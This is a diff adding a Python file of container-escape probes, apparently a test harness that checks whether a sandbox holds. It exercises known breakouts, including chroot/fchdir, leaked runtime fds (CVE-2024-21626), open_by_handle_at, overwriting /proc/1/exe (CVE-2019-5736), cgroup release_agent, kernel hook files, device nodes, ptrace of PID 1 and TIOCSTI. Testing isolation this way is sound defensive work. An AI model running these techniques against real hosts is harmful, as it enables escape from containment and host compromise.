@@ -1,0 +1,481 @@
+"""The attacks. Each is a function that returns what it got hold of, or raises.
+
+Run as `python3 attack.py NAME ARGUMENT…`, in a box or outside of it; prints one
+JSON object {"success": bool, "detail": text}. Everything is in this one file so
+that it can be handed to a box as an argument: a box needs nothing but python3.
+
+An attack proves success by reading the host's secret (a file whose path and
+content only the test knows), or by getting a handle that would lead there. None
+of them changes anything of the host even when it succeeds.
+"""
+
+import ctypes
+import fcntl
+import json
+import os
+import socket
+import stat
+import struct
+import sys
+import tempfile
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+
+
+def call(number, *arguments):
+    ctypes.set_errno(0)
+    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
+    if result < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+
+
+def read(path):
+    with open(path, "rb") as file:
+        return file.read(4096).decode(errors="replace")
+
+
+class Refused(Exception):
+    """The attack came to its end without success."""
+
+
+# ---- leaving the root directory -------------------------------------------
+
+
+def chroot_fchdir(secret):
+    """The classic: a second chroot below the working directory, then '..' without end."""
+    place = tempfile.mkdtemp(dir="/tmp")
+    outside = os.open("/", os.O_RDONLY)
+    os.chroot(place)
+    os.fchdir(outside)
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot(".")
+    return read(secret)
+
+
+def dot_dot(secret):
+    """'..' from every directory that can be opened, by name and by fd."""
+    links = [f"/proc/{name}/{link}" for name in os.listdir("/proc") if name.isdigit() for link in ("root", "cwd")]
+    for start in ("/", "/workspace", "/dev", "/dev/pts", "/dev/shm", "/proc/self/root", *links):
+        try:
+            fd = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
+        except OSError:
+            continue
+        try:
+            with open(os.open("../" * 64 + secret[1:], os.O_RDONLY, dir_fd=fd)) as file:
+                return file.read()
+        except OSError:
+            pass
+        finally:
+            os.close(fd)
+    raise Refused("every '..' stays below the root")
+
+
+def proc_root(secret):
+    """The root directories of all processes that can be seen."""
+    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
+        for link in ("root", "cwd"):
+            try:
+                return read(f"/proc/{pid}/{link}{secret}")
+            except OSError:
+                pass
+    raise Refused("no process has another root")
+
+
+def leaked_fds(secret):
+    """CVE-2024-21626: a directory fd of the runtime that was left open."""
+    pids = [name for name in os.listdir("/proc") if name.isdigit()]
+    for pid in ("self", *pids):
+        try:
+            numbers = os.listdir(f"/proc/{pid}/fd")
+        except OSError:
+            continue
+        for number in numbers:
+            for path in (f"/proc/{pid}/fd/{number}{secret}", f"/proc/{pid}/fd/{number}/" + "../" * 64 + secret[1:]):
+                try:
+                    return read(path)
+                except OSError:
+                    pass
+    raise Refused("no fd leads out")
+
+
+def file_handles(secret):
+    """'Shocker': open a host inode by its handle, through any mount that can be opened."""
+    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0) + b"\0" * 64  # inode 2: the root of an ext4
+    for place in ("/", "/workspace", "/tmp", "/usr"):
+        try:
+            mount = os.open(place, os.O_RDONLY)
+            fd = call(304, mount, handle, os.O_RDONLY | os.O_DIRECTORY)
+        except OSError as error:
+            last = error
+            continue
+        with open(os.open(secret[1:], os.O_RDONLY, dir_fd=fd)) as file:
+            return file.read()
+    raise last
+
+
+def bind_mount(secret):
+    """Mounts: a new proc, a bind of the root, the disk itself."""
+    place = tempfile.mkdtemp(dir="/tmp")
+    last = None
+    for arguments in ((b"/", place.encode(), None, 4096, None), (b"proc", place.encode(), b"proc", 0, None),
+                      (b"tmpfs", place.encode(), b"tmpfs", 0, None)):
+        ctypes.set_errno(0)
+        if libc.mount(*arguments) == 0:
+            libc.umount2(place.encode(), 2)
+            return f"mounted {arguments[0].decode()}"
+        last = OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    try:
+        return f"fsopen gave {call(430, b'tmpfs', 0)}"
+    except OSError:
+        raise last from None
+
+
+def unmask(secret):
+    """Takes away what is mounted over parts of /proc and /dev."""
+    done = []
+    for line in open("/proc/self/mountinfo"):
+        point = line.split()[4]
+        if point != "/" and point.startswith(("/proc", "/dev", "/tmp")):
+            ctypes.set_errno(0)
+            if libc.umount2(point.encode(), 2) == 0:
+                done.append(point)
+    if not done:
+        raise Refused("nothing can be unmounted")
+    return f"unmounted {done}"
+
+
+# ---- the runtime itself ---------------------------------------------------
+
+
+def overwrite_runtime(pid="1"):
+    """CVE-2019-5736: write to the program of PID 1 through /proc."""
+    path = f"/proc/{pid}/exe"
+    try:
+        fd = os.open(path, os.O_RDONLY)
+    except OSError:
+        fd = os.open(path, os.O_PATH)
+    if pid != "1":
+        os.kill(int(pid), 9)
+        time.sleep(0.2)  # the control's victim: its program is busy until it is gone
+    before = os.readlink(f"/proc/self/fd/{fd}")
+    writer = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
+    os.close(writer)
+    return f"{before} can be written"
+
+
+def trace_pid_1(pid="1"):
+    """Memory of PID 1 by ptrace, process_vm_readv and /proc/PID/mem."""
+    number = int(pid)
+    got = []
+    if libc.ptrace(16, number, None, None) == 0:
+        libc.ptrace(17, number, None, None)
+        got.append("ptrace")
+    try:
+        with open(f"/proc/{pid}/maps") as maps:
+            address = int(maps.readline().split("-")[0], 16)
+    except (OSError, ValueError, IndexError):
+        address = 0x400000
+    target = ctypes.create_string_buffer(16)
+
+    class Vector(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+    here, there = Vector(ctypes.addressof(target), 16), Vector(address, 16)
+    try:
+        if call(310, number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 16:
+            got.append("process_vm_readv")
+    except OSError:
+        pass
+    try:
+        with open(f"/proc/{pid}/mem", "rb+", buffering=0) as memory:
+            memory.seek(address)
+            if memory.read(16):
+                got.append("mem")
+    except OSError:
+        pass
+    try:
+        pidfd = call(434, number, 0)
+        for fd in range(10):
+            try:
+                call(438, pidfd, fd, 0)
+                got.append(f"pidfd_getfd {fd}")
+                break
+            except OSError:
+                pass
+    except OSError:
+        pass
+    if not got:
+        raise Refused("no way into the memory or fds")
+    return f"got {got}"
+
+
+def join_namespaces(pid="1"):
+    """setns into whatever namespace can be opened."""
+    got, last = [], None
+    for kind in ("mnt", "net", "pid", "uts", "ipc", "user", "cgroup"):
+        try:
+            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
+            call(308, fd, 0)
+            got.append(kind)
+        except OSError as error:
+            last = error
+    if not got:
+        raise last
+    return f"joined {got}"
+
+
+def pid_1_socket(path):
+    """The control socket of PID 1 must not be reachable from within its box."""
+    found = []
+    for line in open("/proc/net/unix").read().splitlines()[1:]:
+        fields = line.split()
+        if len(fields) > 7:
+            found.append(fields[7])
+    for name in {path, *found}:
+        s = socket.socket(socket.AF_UNIX)
+        if s.connect_ex(name if not name.startswith("@") else "\0" + name[1:]) == 0:
+            return f"connected to {name}"
+    raise Refused(f"none of {found} answers")
+
+
+# ---- the kernel's own hooks -----------------------------------------------
+
+
+def release_agent():
+    """CVE-2022-0492: a release_agent in a cgroup v1 hierarchy runs as root of the host."""
+    for top, _, files in os.walk("/sys/fs/cgroup"):
+        if "release_agent" in files:
+            os.close(os.open(os.path.join(top, "release_agent"), os.O_WRONLY))
+            return f"{top}/release_agent can be written"
+    place = tempfile.mkdtemp(dir="/tmp")
+    if libc.mount(b"cgroup", place.encode(), b"cgroup", 0, b"none,name=paddock-escape-test") != 0:
+        error = ctypes.get_errno()
+        raise OSError(error, os.strerror(error))
+    try:
+        os.close(os.open(f"{place}/release_agent", os.O_WRONLY))
+        return "a fresh hierarchy's release_agent can be written"
+    finally:
+        libc.umount2(place.encode(), 0)
+        os.rmdir(place)
+
+
+def kernel_hooks():
+    """Files that make the kernel run a program or obey: opened for writing, not written."""
+    opened, last = [], None
+    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
+                 "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger",
+                 "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/randomize_va_space", "/proc/sys/user/max_user_namespaces"):
+        try:
+            os.close(os.open(path, os.O_WRONLY))
+            opened.append(path)
+        except OSError as error:
+            last = error
+    if not opened:
+        raise last
+    return f"writable: {opened}"
+
+
+def kernel_memory():
+    """The kernel's memory and symbols."""
+    got = []
+    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"):
+        try:
+            with open(path, "rb") as file:
+                if file.read(16).strip(b"\0"):
+                    got.append(path)
+        except OSError:
+            pass
+    try:
+        with open("/proc/kallsyms") as file:
+            if any(int(line.split()[0], 16) for line in (file.readline() for _ in range(50)) if line.strip()):
+                got.append("/proc/kallsyms")
+    except OSError:
+        pass
+    try:
+        if call(103, 3, ctypes.create_string_buffer(4096), 4096) > 0:
+            got.append("dmesg")
+    except OSError:
+        pass
+    if not got:
+        raise Refused("no kernel memory, symbol or message")
+    return f"read {got}"
+
+
+def user_namespace():
+    """A user namespace of one's own: the door to most of the kernel's attack surface."""
+    child = os.fork()
+    if child == 0:
+        try:
+            call(272, 0x10000000)
+            os._exit(0)
+        except OSError as error:
+            os._exit(error.errno)
+    unshare = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+    if unshare == 0:
+        return "unshare(CLONE_NEWUSER)"
+    ctypes.set_errno(0)
+    child = libc.syscall(*map(ctypes.c_long, (56, 0x10000000 | 17, 0, 0, 0, 0)))
+    if child == 0:
+        os._exit(0)
+    if child > 0:
+        os.waitpid(child, 0)
+        return "clone(CLONE_NEWUSER)"
+    arguments = struct.pack("QQQQQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
+    child = libc.syscall(ctypes.c_long(435), arguments, ctypes.c_long(len(arguments)))
+    if child == 0:
+        os._exit(0)
+    if child > 0:
+        os.waitpid(child, 0)
+        return "clone3(CLONE_NEWUSER)"
+    raise OSError(unshare, os.strerror(unshare))
+
+
+def device_nodes():
+    """A node of one's own for the host's disk or its memory."""
+    place = tempfile.mkdtemp(dir="/tmp")
+    path, last = f"{place}/node", None
+    try:
+        for kind, major, minor in ((stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 1, 3)):
+            try:
+                os.mknod(path, kind | 0o600, os.makedev(major, minor))
+                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
+                return f"opened device {major}:{minor}"
+            except OSError as error:
+                last = error
+            finally:
+                if os.path.lexists(path):
+                    os.unlink(path)
+        raise last
+    finally:
+        os.rmdir(place)
+
+
+def raw_sockets():
+    """Frames and packets of one's own making."""
+    got, last = [], None
+    for name, arguments in (("AF_PACKET", (17, 3, 0x300)), ("raw IP", (2, 3, 255)), ("raw ICMP", (2, 3, 1)), ("raw IPv6", (10, 3, 58))):
+        try:
+            socket.socket(*arguments).close()
+            got.append(name)
+        except OSError as error:
+            last = error
+    if not got:
+        raise last
+    return f"opened {got}"
+
+
+def keyrings():
+    """Kernel keys are not in a namespace: they would be a channel between boxes."""
+    serial = call(248, b"user", b"paddock-escape-test", b"x", 1, ctypes.c_long(-1))
+    call(250, 3, serial)  # revoke what was added
+    return f"added key {serial}"
+
+
+def terminal_injection():
+    """TIOCSTI: typing into somebody's terminal."""
+    os.setsid() if os.getpid() != os.getsid(0) else None
+    master, slave = os.openpty()
+    fcntl.ioctl(slave, 0x540E, 0)  # TIOCSCTTY
+    for number in (slave, 0, 1, 2):
+        try:
+            fcntl.ioctl(number, 0x5412, b"x")  # TIOCSTI
+            return f"typed into fd {number}"
+        except OSError as error:
+            last = error
+    raise last
+
+
+# ---- others on the same host ----------------------------------------------
+
+
+def abstract_socket(name):
+    """Abstract unix sockets of the host."""
+    s = socket.socket(socket.AF_UNIX)
+    s.connect("\0" + name)
+    return s.recv(100).decode()
+
+
+def path_socket(path):
+    """A socket file of the host, by every way to its path."""
+    for prefix in ("", "/proc/1/root", "/proc/self/root"):
+        s = socket.socket(socket.AF_UNIX)
+        try:
+            s.connect(prefix + path)
+            return s.recv(100).decode()
+        except OSError as error:
+            last = error
+    raise last
+
+
+def tcp(port):
+    """The daemon's own port, and any other of the host, at all addresses that could be it."""
+    for host in ("127.0.0.1", "::1", "10.0.0.1", "172.17.0.1", "169.254.169.254", socket.gethostname()):
+        try:
+            socket.create_connection((host, int(port)), timeout=2).close()
+            return f"connected to {host}"
+        except OSError as error:
+            last = error
+    raise last
+
+
+def shared_memory(key):
+    """System V shared memory of the host."""
+    number = libc.shmget(int(key), 0, 0)
+    if number < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    libc.shmat.restype = ctypes.c_void_p
+    address = libc.shmat(number, None, 0)
+    return ctypes.string_at(address, 32).decode()
+
+
+def set_user_id(program):
+    """A set-user-id root program: does it give root of the host, or of the box, to a user?"""
+    if os.getuid() == 0:
+        os.setgroups([])
+        os.setresgid(1000, 1000, 1000)
+        os.setresuid(1000, 1000, 1000)
+    reader, writer = os.pipe()
+    if os.fork() == 0:
+        os.dup2(writer, 1)
+        os.execv(program, ["id", "-u"])
+    os.close(writer)
+    effective = os.read(reader, 100).decode().strip()
+    if effective != "0":
+        raise Refused(f"effective uid {effective!r}")
+    return "effective uid 0"
+
+
+def foreign_processes(pid):
+    """Signals to, and sight of, a process of the host by its host pid."""
+    os.kill(int(pid), 0)
+    with open(f"/proc/{pid}/cmdline", "rb") as file:
+        words = file.read().decode()
+    if "paddock-escape-victim" not in words:
+        raise Refused(f"pid {pid} is another process here: {words!r}")
+    return "the host's process can be seen and signalled"
+
+
+def chroot_jail(directory):
+    """The weakened box of the controls: a chroot and nothing else."""
+    os.chroot(directory)
+    os.chdir("/")
+
+
+def main():
+    arguments = sys.argv[1:]
+    if arguments[0] == "--jail":
+        chroot_jail(arguments[1])
+        arguments = arguments[2:]
+    try:
+        detail, success = globals()[arguments[0]](*arguments[1:]), True
+    except (OSError, Refused) as error:
+        detail, success = f"{type(error).__name__}: {error}", False
+    print(json.dumps({"success": success, "detail": str(detail)}))
+
+
+if __name__ == "__main__":
+    main()
